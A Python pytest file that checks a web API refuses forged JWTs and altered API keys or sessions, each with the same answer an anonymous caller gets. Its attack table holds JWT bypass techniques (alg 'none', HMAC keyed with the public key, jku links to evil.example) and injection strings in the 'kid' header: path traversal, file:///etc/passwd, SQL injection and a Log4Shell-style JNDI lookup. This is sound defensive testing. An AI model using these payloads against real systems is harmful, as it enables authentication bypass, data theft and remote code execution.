"""Forged and broken credentials: all are refused, and no answer tells which of them was how close."""

import json
from collections.abc import Callable
from typing import Any, TypeAlias
from uuid import UUID, uuid4

import httpx2
import pytest

from application.identity import credentials
from infrastructure.identity.token_keys import token_keys
from infrastructure.identity.tokens import LONGEST
from interfaces.http.auth import PLAIN_COOKIE, SECURE_COOKIE
from interfaces.http.heads import MAX_HEADERS
from tests.support.asked import created, refused
from tests.support.forger import Forger, es256, hs, nothing, part, rs256, stranger
from tests.support.residents import Residents
from tests.support.system import System

Attack: TypeAlias = Callable[[Forger], str | bytes]

YEAR = 365 * 24 * 3600
VARYING = {"date", "x-correlation-id", "ratelimit"}


@pytest.fixture(scope="module")
def forger(system: System, residents: Residents, home: UUID) -> Forger:
    _, key = token_keys("", system.data).signing()
    return Forger(key, residents.one("admin", home))


def none(spelt: str) -> Attack:
    return lambda forger: forger.headed(nothing, alg=spelt)


def hmac_with_public_key(digest: str, encoding: str, form: str) -> Attack:
    return lambda forger: forger.headed(hs(forger.public(encoding, form), digest), alg=f"HS{digest[3:]}")


def says(**claims: Any) -> Attack:
    return lambda forger: forger.saying(**claims)


def headed(**header: Any) -> Attack:
    return lambda forger: forger.headed(**header)


def later(**seconds: int) -> Attack:
    """Claims so many seconds from now."""

    def attack(forger: Forger) -> str:
        at = forger.claims()["iat"]
        return forger.saying(**{name: at + many for name, many in seconds.items()})

    return attack


def doubled(name: str, value: Any) -> Attack:
    """A payload that says something twice, first as it should be and last, or the other way round."""
    return lambda forger: forger.token(json.dumps(forger.claims())[:-1].encode() + f', "{name}": {value}}}'.encode())


def respelt(change: Callable[[str], str | bytes]) -> Attack:
    return lambda forger: change(forger.token())


def last_letter(token: str) -> str:
    """Another spelling of the same bytes: the last letter has four bits that say nothing."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return token[:-1] + alphabet[alphabet.index(token[-1]) + 1]


def swapped(forger: Forger) -> str:
    """The body of one token with the signature of another."""
    one, other = forger.token(), forger.saying(exp=forger.claims()["iat"] + YEAR)
    return ".".join([*other.split(".")[:2], one.split(".")[2]])


def all_of(name: str, attack: Callable[[Any], Attack], *values: Any) -> dict[str, Attack]:
    return {f"{name} {str(value)[:30]!r}": attack(value) for value in values}


def with_claim(name: str) -> Callable[[Any], Attack]:
    return lambda value: says(**{name: value})


FORMS = [("PEM", "SubjectPublicKeyInfo"), ("DER", "SubjectPublicKeyInfo"), ("Raw", "Raw")]
EVIL = "https://evil.example/keys"

ATTACKS: dict[str, Attack] = {
    **all_of("no algorithm", none, "none", "None", "NONE", "nOnE", " none", "none ", "", "null"),
    "no algorithm, with a signature": lambda forger: forger.headed(alg="none"),
    "no algorithm named": lambda forger: forger.headed(alg=None),
    **all_of("an algorithm that is no text", lambda value: headed(alg=value), 0, True, ["EdDSA"], {"a": "EdDSA"}),
    **{
        f"HMAC {digest} with the public key, {encoding}": hmac_with_public_key(digest, encoding, form)
        for digest in ("sha256", "sha384", "sha512")
        for encoding, form in FORMS
    },
    "HMAC with the public key as a JWK": lambda forger: forger.headed(hs(json.dumps(forger.jwk).encode()), alg="HS256"),
    "HMAC with nothing": lambda forger: forger.headed(hs(b""), alg="HS256"),
    "HMAC with the name of the key": lambda forger: forger.headed(hs(forger.kid.encode()), alg="HS256"),
    "RSA": lambda forger: forger.headed(rs256, alg="RS256"),
    "RSA that says it is Ed25519": lambda forger: forger.headed(rs256),
    "P-256": lambda forger: forger.headed(es256, alg="ES256"),
    "P-256 that says it is Ed25519": lambda forger: forger.headed(es256),
    **all_of("another algorithm", lambda value: headed(alg=value), "Ed448", "eddsa", "Ed25519", "HS256", "RS256"),
    "another key under our name": lambda forger: forger.token(sign=stranger),
    "no signature": lambda forger: forger.token(sign=nothing),
    "a signature of zeros": lambda forger: forger.token(sign=lambda _: bytes(64)),
    "a signature of the identity": lambda forger: forger.token(sign=lambda _: b"\x01" + bytes(63)),
    "a signature that is too long": lambda forger: forger.token(sign=lambda signed: forger.key.sign(signed) + b"\0"),
    "a signature with a greater scalar": lambda forger: forger.with_greater_scalar(),
    **all_of("a signature with a flipped bit", lambda bit: lambda forger: forger.flipped(bit), 0, 255, 256, 511),
    "the body of one and the signature of another": swapped,
    **all_of(
        "another type",
        lambda value: headed(typ=value),
        *("JWT", "jwt", "id+jwt", "at", "at+jwt2", " at+jwt", "text/at+jwt", "application/jwt", "application/", "", 1),
        *(["at+jwt"], "logout+jwt", "dpop+jwt", "application/application/at+jwt"),
    ),
    "no type": headed(typ=None),
    **all_of(
        "another key's name",
        lambda value: headed(kid=value),
        *("", "0", "../../../../dev/null", "/proc/self/environ", "' OR '1'='1", "1; DROP TABLE events--", EVIL),
        *("file:///etc/passwd", "x" * 2_000, "\u0000", 0, ["a"], {"a": 1}, "token.key", "${jndi:ldap://evil.example}"),
    ),
    "no key's name": headed(kid=None),
    "a key's name with a NUL behind it": lambda forger: forger.headed(kid=forger.kid + "\0"),
    "a key's name in other letters": lambda forger: forger.headed(kid=forger.kid.swapcase()),
    "a link to keys": headed(jku=EVIL),
    "a link to certificates": headed(x5u=EVIL),
    "certificates": headed(x5c=["MIIB"]),
    "the digest of a certificate": headed(x5t="AAAA"),
    "a key of its own": lambda forger: forger.headed(stranger, jwk=forger.jwk),
    "our key as a key of its own": lambda forger: forger.headed(jwk=forger.jwk),
    "what must be understood": headed(crit=["exp"]),
    "what must be understood and is not": headed(crit=["x"], x=1),
    "nothing that must be understood": headed(crit=[]),
    "a payload that is not encoded": headed(b64=False, crit=["b64"]),
    "a payload that is compressed": headed(zip="DEF"),
    "a token in a token": lambda forger: forger.token(forger.token().encode(), header={**forger.header, "cty": "JWT"}),
    "a token in a token, as text": lambda forger: forger.token(json.dumps(forger.token()).encode()),
    "an encrypted token": lambda forger: ".".join(
        [part(b'{"alg":"dir","enc":"A256GCM"}'), "", *(part(b"x" * many) for many in (12, 64, 16))]
    ),
    "JSON, flattened": lambda forger: json.dumps(
        dict(zip(("protected", "payload", "signature"), forger.token().split("."), strict=True))
    ),
    "JSON, general": lambda forger: json.dumps({"payload": forger.token().split(".")[1], "signatures": []}),
    **all_of("another audience", with_claim("aud"), "other", "", "z2 ", "Z2", ["z2"], ["z2", "other"], [], 2, True),
    "no audience": says(aud=None),
    **all_of("another issuer", with_claim("iss"), "other", "", "Z2", "https://z2", ["z2"], 2),
    "no issuer": says(iss=None),
    "expired a second ago": later(iat=-300, exp=-1),
    "expires now": later(exp=0),
    "ends before it begins": later(exp=-5),
    "no end": says(exp=None),
    **all_of("an end that is no number of seconds", with_claim("exp"), "9999999999", 4e9, 1e300, True, [1], -1, 2**70),
    "an end that is infinite": lambda forger: forger.token(
        json.dumps(forger.claims() | {"exp": float("inf")}).encode()
    ),
    "an end in a year": later(exp=YEAR),
    "an end in ten thousand years": later(exp=10_000 * YEAR),
    "made tomorrow": later(iat=86_400, exp=86_700),
    "made in two minutes": later(iat=120),
    "no beginning": says(iat=None),
    **all_of("a beginning that is no number of seconds", with_claim("iat"), "0", 1.5, False, {}),
    "not valid yet": later(nbf=120),
    "valid from some day": says(nbf="someday"),
    "two audiences, ours last": lambda forger: forger.token(
        b'{"aud": "other", ' + json.dumps(forger.claims()).encode()[1:]
    ),
    "two audiences, ours first": doubled("aud", '"other"'),
    "two ends": doubled("exp", 9_999_999_999),
    "two subjects": doubled("sub", f'"{uuid4()}"'),
    "the same twice": doubled("iss", '"z2"'),
    "the same twice, spelt otherwise": doubled("\\u0069ss", '"z2"'),
    "two algorithms": lambda forger: forger.token(
        header=b'{"alg": "none", ' + json.dumps(forger.header).encode()[1:], sign=nothing
    ),
    "two key names": lambda forger: forger.token(header=b'{"kid": "x", ' + json.dumps(forger.header).encode()[1:]),
    "a claim that is not ours": says(role="admin"),
    "a claim of everything": says(admin=True),
    **all_of("a subject that is none", with_claim("sub"), "admin", "", 0, ["x"], str(UUID(int=0)), "é"),
    "no subject": says(sub=None),
    "another subject": lambda forger: forger.saying(sub=str(uuid4())),
    "another workspace": lambda forger: forger.saying(workspace=str(uuid4())),
    "no workspace": says(workspace=None),
    "a login that does not exist": lambda forger: forger.saying(**dict.fromkeys(("sid", "client_id"), str(uuid4()))),
    "a login that is a user": lambda forger: forger.saying(
        **dict.fromkeys(("sid", "client_id"), str(forger.actor.user_id))
    ),
    "a login in place of a key": lambda forger: forger.saying(sid=None, akid=str(forger.actor.login_id)),
    "a login and a key": lambda forger: forger.saying(akid=str(uuid4())),
    "neither a login nor a key": says(sid=None),
    "another client": says(client_id=str(uuid4())),
    "no client": says(client_id=None),
    "no name of its own": says(jti=None),
    "a scope that is no text": says(scope=["read"]),
    "an agent that does not exist": lambda forger: forger.saying(agent=str(uuid4())),
    "an agent that is the workspace": lambda forger: forger.saying(agent=str(forger.actor.workspace_id)),
    "cut short": respelt(lambda token: token[:-1]),
    "cut in half": respelt(lambda token: token[: len(token) // 2]),
    "without its signature": respelt(lambda token: token.rpartition(".")[0]),
    "with a fourth part": respelt(lambda token: f"{token}.{token}"),
    "padded": respelt(lambda token: f"{token}=="),
    "padded within": respelt(lambda token: token.replace(".", "=.", 1)),
    "in the other base64": respelt(lambda token: token.replace("-", "+").replace("_", "/") + "+/"),
    "spelt otherwise": respelt(last_letter),
    "with a space": respelt(lambda token: token.replace(".", ". ", 1)),
    "with a tab": respelt(lambda token: token[:20] + "\t" + token[20:]),
    "with other letters": respelt(lambda token: token.encode() + "é".encode()),
    "in quotes": respelt(lambda token: f'"{token}"'),
    "twice": respelt(lambda token: f"{token},{token}"),
    "upside down": respelt(lambda token: token[::-1]),
    "bytes that are no text": lambda _: b"\xff\xfe\xfd.\xff.\xff",
    **all_of("no token at all", lambda value: lambda _: value, "x", ".", "..", "a.b.c", "null", "undefined", "{}"),
    "a payload that is no JSON": lambda forger: forger.token(b"{"),
    "a payload that is no object": lambda forger: forger.token(b"[]"),
    "a payload that is no text": lambda forger: forger.token(b"\xff\xfe"),
    "a payload with a NUL": lambda forger: forger.token(json.dumps(forger.claims()).encode() + b"\0"),
    "a payload with a mark before it": lambda forger: forger.token(
        b"\xef\xbb\xbf" + json.dumps(forger.claims()).encode()
    ),
    "a header that is no object": lambda forger: forger.token(header=b"[]"),
    "a header that nests": lambda forger: forger.token(header=b'{"alg":"EdDSA","x":' + b"[" * 2_500),
    "a payload that nests": lambda forger: forger.token(b'{"iss":' + b"[" * 2_500),
    "a number without end": lambda forger: forger.token(b'{"iss":' + b"9" * 2_800 + b"}"),
    "longer than any": lambda forger: forger.saying(scope="read " * LONGEST),
    "much longer than any": lambda _: "A" * 20_000,
}

KEYS: dict[str, Callable[[str], str | bytes]] = {
    "another secret": lambda key: credentials.made("z2", credentials.presented("z2", key).id).text,
    "nobody's": lambda _: credentials.made("z2", uuid4()).text,
    "a session": lambda _: credentials.made("z2s", uuid4()).text,
    "a key said to be a session": lambda key: key.replace("z2_", "z2s_", 1),
    "cut short": lambda key: key[:-1],
    "longer": lambda key: key + "0",
    "another checksum": lambda key: key[:-6] + "000000",
    "another case": lambda key: key.swapcase(),
    "the prefix alone": lambda _: "z2_",
    "an id that is too great": lambda key: f"z2_{'z' * 22}_{'z' * 43}_{'z' * 6}",
    "with other letters": lambda key: key.encode() + "é".encode(),
    "twice": lambda key: f"{key} {key}",
    "very long": lambda key: key + "0" * 20_000,
}


def bearer(client: httpx2.Client, token: str | bytes) -> httpx2.Response:
    text = token if isinstance(token, bytes) else token.encode()
    return client.get("/api/agents", headers=[(b"authorization", b"Bearer " + text)])


def like_any_other(answer: httpx2.Response, anonymous: httpx2.Client) -> None:
    """The answer is that to somebody who shows nothing at all."""
    refused(answer, 401, "not_signed_in")
    plain = anonymous.get("/api/agents")
    assert answer.content == plain.content
    told, expected = (
        {name: value for name, value in each.headers.items() if name not in VARYING} for each in (answer, plain)
    )
    assert told == expected
    assert told["www-authenticate"] == "Bearer"


def test_there_are_enough_attacks() -> None:
    assert len(ATTACKS) >= 60


@pytest.mark.parametrize("typ", ["at+jwt", "AT+JWT", "application/at+jwt", "Application/AT+jwt"])
def test_a_token_with_our_claims_and_our_key_is_taken(anonymous: httpx2.Client, forger: Forger, typ: str) -> None:
    assert bearer(anonymous, forger.headed(typ=typ)).status_code == 200


def test_the_clock_of_another_replica_may_be_a_little_ahead(anonymous: httpx2.Client, forger: Forger) -> None:
    assert bearer(anonymous, later(iat=30, nbf=30)(forger)).status_code == 200


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_a_forged_token_is_refused_like_any_other(anonymous: httpx2.Client, forger: Forger, attack: Attack) -> None:
    like_any_other(bearer(anonymous, attack(forger)), anonymous)


def test_a_token_for_the_login_of_somebody_else_is_refused(
    anonymous: httpx2.Client, forger: Forger, residents: Residents, home: UUID
) -> None:
    for other in (residents.one("user", home), residents.one("admin", uuid4())):
        login = dict.fromkeys(("sid", "client_id"), str(other.login_id))
        like_any_other(bearer(anonymous, forger.saying(**login)), anonymous)
        like_any_other(bearer(anonymous, forger.saying(sub=str(other.user_id))), anonymous)
    foreign = forger.saying(sub=str(other.user_id), workspace=str(other.workspace_id))
    like_any_other(bearer(anonymous, foreign), anonymous)


@pytest.mark.parametrize("change", KEYS.values(), ids=KEYS)
def test_what_is_like_a_key_is_refused_like_any_other(
    anonymous: httpx2.Client, api: httpx2.Client, change: Callable[[str], str | bytes]
) -> None:
    key = created(api, "/api/keys", {"label": "Attacked"})["key"]
    assert bearer(anonymous, key).status_code == 200
    like_any_other(bearer(anonymous, change(key)), anonymous)


@pytest.mark.parametrize("change", KEYS.values(), ids=KEYS)
def test_what_is_like_a_session_is_refused_like_any_other(
    anonymous: httpx2.Client, residents: Residents, home: UUID, change: Callable[[str], str | bytes]
) -> None:
    session = residents.session("user", home)
    key = change(credentials.made("z2", credentials.presented("z2s", session).id).text)
    forged = (key.decode("latin-1") if isinstance(key, bytes) else key).replace("z2_", "z2s_", 1)
    for cookie in (PLAIN_COOKIE, SECURE_COOKIE):
        answer = anonymous.get("/api/agents", headers=[(b"cookie", f"{cookie}={forged}".encode("latin-1"))])
        like_any_other(answer, anonymous)
    like_any_other(bearer(anonymous, session), anonymous)


@pytest.mark.parametrize("scheme", ["", "Basic ", "Token ", "Digest ", "DPoP ", "Bearer", "Bearer  "])
def test_a_good_token_in_another_scheme_is_none(anonymous: httpx2.Client, forger: Forger, scheme: str) -> None:
    header = (b"authorization", scheme.encode() + forger.token().encode())
    like_any_other(anonymous.get("/api/agents", headers=[header]), anonymous)


def test_a_token_in_the_address_or_the_body_is_none(anonymous: httpx2.Client, forger: Forger) -> None:
    like_any_other(anonymous.get("/api/agents", params={"access_token": forger.token()}), anonymous)
    answer = anonymous.post("/api/agents", data={"access_token": forger.token()})
    refused(answer, 401, "not_signed_in")


def test_a_token_that_fills_the_headers_is_refused_before_anybody_looks(anonymous: httpx2.Client) -> None:
    refused(bearer(anonymous, "A" * MAX_HEADERS), 431, "headers_too_large")
